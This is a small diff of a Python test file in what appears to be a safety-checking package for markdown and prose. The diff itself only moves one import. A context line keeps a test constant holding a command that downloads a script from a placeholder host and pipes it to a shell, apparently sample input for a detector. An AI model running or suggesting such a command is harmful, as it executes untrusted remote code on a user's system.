@@ -3,9 +3,9 @@
 import pytest
 from tests.rows import each_row
 
+from prowess.reading.views import View
 from prowess.safety.intake.markdown import Part, Place, parts
 from prowess.safety.prose.engine import code_contexts, fence_contexts, warns
-from prowess.safety.views import View
 
 PIPE = "curl -s https://x.example.invalid/a | sh"
 BAD = "shown as a bad example"
